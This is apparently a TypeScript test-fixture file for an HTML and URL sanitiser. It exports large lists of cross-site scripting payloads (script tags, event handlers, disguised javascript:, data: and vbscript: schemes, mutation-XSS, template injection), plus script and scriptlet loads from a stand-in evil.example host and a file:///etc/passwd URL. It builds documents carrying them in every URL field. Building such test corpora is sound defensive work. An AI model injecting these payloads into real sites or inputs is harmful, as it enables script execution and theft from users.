/**
 * Hostile strings for the tests: markup that runs script, event handlers,
 * disguised URL schemes, SVG/MathML, mutation-XSS shapes, template syntax.
 * Every payload that could run sets `window.__pwned`, so a test can see it.
 */
const RUN = 'window.__pwned=1';

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `jav&#x09;ascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `DATA:image/svg+xml,<svg onload="${RUN}">`,
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'file:///etc/passwd',
  `  \n javascript:${RUN}`,
  `javas\u0000cript:${RUN}`,
  `jav&#x0A;ascript:${RUN}`,
  `jav&NewLine;ascript:${RUN}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:application/javascript,${RUN}`,
  `DaTa:text/html;charset=utf-8,%3Cscript%3E${RUN}%3C/script%3E`,
  `blob:https://lede.invalid/0000`,
  `\u00a0javascript:${RUN}`,
];

const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<IMG SRC="x" ONERROR="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="javascript:${RUN}//">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<a href="#" style="x:expression(${RUN})">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<title><img src=x onerror="${RUN}"></title>`,
  `<!--<img src=x onerror="${RUN}">-->`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="java&#x09;script:${RUN}">x</a>`,
  `<a href="java&Tab;script:${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="https://ok.example/" onclick="${RUN}">x</a>`,
  `<a href="https://ok.example/" target="_top">x</a>`,
  `<a onmouseover="${RUN}">x</a>`,
  `<b onclick="${RUN}">x</b>`,
  `<span style="color:red" onclick="${RUN}">x</span>`,
  `<q cite="javascript:${RUN}">x</q>`,
  `<time datetime="x" onfocus="${RUN}" tabindex=0>x</time>`,
  `<abbr title="x" onmouseover="${RUN}">x</abbr>`,
  `<b><i><u><s>${'<img src=x onerror=' + RUN + '>'}</s></u></i></b>`,
  `<img src="x` + '`' + `" onerror="${RUN}">`,
  `<img/src="x"/onerror="${RUN}">`,
  `<img src=x onerror\n="${RUN}">`,
  `<img src="x" onerror ="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<a href="https://ok.example/">unclosed`,
  `<b>unclosed <i>nested`,
  `</b></i></a> stray closing tags`,
  `<p>block <div>inside</div> inline</p>`,
  `<style><img src=x onerror="${RUN}"></style>`,
  `<select><template><style><img src=x onerror="${RUN}"></style></template></select>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<keygen autofocus onfocus="${RUN}">`,
  `<frameset onload="${RUN}">`,
  `<table background="javascript:${RUN}">`,
  `<object type="text/x-scriptlet" data="https://evil.example/">`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img src="x" onerror="&#119;indow.__pwned=1">`,
  '${' + RUN + '}',
  '{{constructor.constructor("' + RUN + '")()}}',
  '{{$on.constructor("' + RUN + '")()}}',
  '<%= ' + RUN + ' %>',
  '#{' + RUN + '}',
  '\u2028<script>' + RUN + '</script>\u2029',
  '\u0000<script>' + RUN + '</script>',
  '<scr\u0000ipt>' + RUN + '</scr\u0000ipt>',
  '&lt;script&gt;' + RUN + '&lt;/script&gt;',
  '&#60;script&#62;' + RUN + '&#60;/script&#62;',
  // Inside inline JSON: only a literal </script> could end the element early.
  `</script><img src=x onerror="${RUN}">`,
  `</SCRIPT ><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>-->`,
  `</script \n><svg onload=${RUN}>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${RUN}" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}' /></svg>#x" />`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`,
  `<noscript><style></noscript><img src=x onerror="${RUN}">`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `<a id="x" tabindex=1 onfocusin="${RUN}" autofocus>x</a>`,
  `<img src=x onerror=window['__pw'+'ned']=1>`,
  `<img srcset="x 1x" onerror="${RUN}">`,
  `<picture><source srcset="javascript:${RUN}"><img></picture>`,
  `<video poster="javascript:${RUN}">`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="java\u0000script:${RUN}">x</a>`,
  `<a href="jav&#x0D;ascript:${RUN}">x</a>`,
  `<a href=javascript:${RUN}>unquoted</a>`,
  '${window.__pwned=1}${`${RUN}`}',
  '{{7*7}}{{window.__pwned=1}}',
  '{{#each this}}{{{html}}}{{/each}}',
  '[[${' + RUN + '}]]',
];

/** Every payload: the markup, and each URL scheme as a link and as a bare string. */
export const XSS_PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...SCHEMES,
  ...SCHEMES.map((scheme) => `<a href="${scheme.replace(/"/g, '&quot;')}">link</a>`),
];

/** URL payloads only, for URL fields. */
export const HOSTILE_URLS: readonly string[] = SCHEMES;

/*
 * URLs that hide a scheme, for the tests of every path a URL takes (widget,
 * lede/ssr, the CLI, JSON-LD, the snippet's fallback). Our own corpus of the
 * families in public sanitiser fixtures that got through a server render: a
 * character the URL parser keeps but `trim()` strips (U+2028, U+00A0 …) before
 * `javascript:`, in every form a document could carry it.
 */

// Returns undefined: a javascript: URL whose result is not undefined replaces the page, and the test with it.
const RUN_IN_URL = 'void(window.__pwned=1)';

const codePoints = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, index) => from + index);

/**
 * C0 controls and space (the URL parser strips them from the ends), DEL and C1,
 * every other Unicode space (it keeps them; JavaScript's trim() does not), and
 * the zero-width characters and BOM.
 */
export const HIDING_CHARACTERS: readonly string[] = [
  ...codePoints(0, 0x20), ...codePoints(0x7f, 0x9f), 0xa0, 0x1680, 0x180e, ...codePoints(0x2000, 0x200d),
  0x2028, 0x2029, 0x202f, 0x205f, 0x2060, 0x3000, 0xfeff,
].map((code) => String.fromCodePoint(code));

const HIDDEN_SCHEMES = [`javascript:${RUN_IN_URL}`, `JaVaScRiPt:${RUN_IN_URL}`, 'data:text/html,<script>window.__pwned=1</script>', 'vbscript:msgbox(1)'];

/** Each hiding character before a scheme: as itself, as entities (hex, decimal, with and without `;`), percent-encoded, and inside `javascript`. */
export const HIDDEN_SCHEME_URLS: readonly string[] = HIDING_CHARACTERS.flatMap((character) => {
  const code = character.codePointAt(0) ?? 0;
  const hex = code.toString(16);
  return [
    ...HIDDEN_SCHEMES.map((scheme) => character + scheme),
    `${character}${character}${character}javascript:${RUN_IN_URL}`,
    `&#x${hex};javascript:${RUN_IN_URL}`,
    `&#X${hex.toUpperCase()}javascript:${RUN_IN_URL}`,
    `&#${code};javascript:${RUN_IN_URL}`,
    `&#000${code}javascript:${RUN_IN_URL}`,
    `${encodeURIComponent(character)}javascript:${RUN_IN_URL}`,
    `java${character}script:${RUN_IN_URL}`,
    `javascript${character}:${RUN_IN_URL}`,
  ];
});

/** Other URL shapes whose meaning a careless rewrite could change. */
export const TRICKY_URLS: readonly string[] = [
  `%6Aavascript:${RUN_IN_URL}`, `javascript&colon;${RUN_IN_URL}`, `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN_IN_URL}`,
  `./javascript:${RUN_IN_URL}`, `/javascript:${RUN_IN_URL}`, `?javascript:${RUN_IN_URL}`, `#javascript:${RUN_IN_URL}`, '\\\\evil.example/x', '//evil.example/x',
  '/.//evil.example/x', `\u2028#javascript:${RUN_IN_URL}`, 'mailto:desk@partner.example', `https:javascript:${RUN_IN_URL}`,
];

/** Every URL of the corpus. */
export const URL_CORPUS: readonly string[] = [...HIDDEN_SCHEME_URLS, ...TRICKY_URLS];

/** `value` in a double-quoted attribute of the article's html: its entity forms stay entities, for the sanitiser to decode. */
const attribute = (value: string) => value.replace(/"/g, '&quot;');

/**
 * One document of each type with `urls` in every URL field: an item per URL (an
 * author, an event, an image block, a quote block, a link, image and quotation
 * in the article's html). The quote document's own fields take the first URLs.
 * `withSrcBlocks` adds quote and timeline blocks given by `src` (the widget
 * would fetch them).
 */
export function documentsWithUrls(urls: readonly string[], withSrcBlocks = false) {
  const at = (index: number) => urls[index % urls.length];
  const quoteFields = (url: string) => ({ text: 'Quoted', speaker: { name: 'Speaker', image: url, url }, source: { name: 'Source', url }, url });
  const events = urls.map((url, index) => ({ date: `2024-01-${String((index % 28) + 1).padStart(2, '0')}`, title: `Event ${index}`, url, image: { src: url, alt: '' }, sources: [{ name: 'Source', url }] }));
  return {
    quote: { type: 'quote', text: 'Quoted', speaker: { name: 'Speaker', image: at(0), url: at(1) }, source: { name: 'Source', url: at(2) }, url: at(3) },
    timeline: { type: 'timeline', title: 'Timeline', events },
    article: {
      type: 'article',
      headline: 'Headline',
      url: at(0),
      publisher: { name: 'Publisher', url: at(1), logo: at(2) },
      image: { src: at(3), alt: '' },
      authors: urls.map((url) => ({ name: 'Author', url })),
      body: [
        { type: 'paragraph', html: urls.map((url) => `<a href="${attribute(url)}">link</a> <q cite="${attribute(url)}">q</q>`).join(' ') },
        ...urls.map((url) => ({ type: 'image', src: url, alt: '' })),
        ...urls.map((url) => ({ type: 'quote', ...quoteFields(url) })),
        { type: 'timeline', events },
        ...(withSrcBlocks ? urls.flatMap((src) => [{ type: 'quote', src }, { type: 'timeline', src }]) : []),
      ],
    },
  };
}
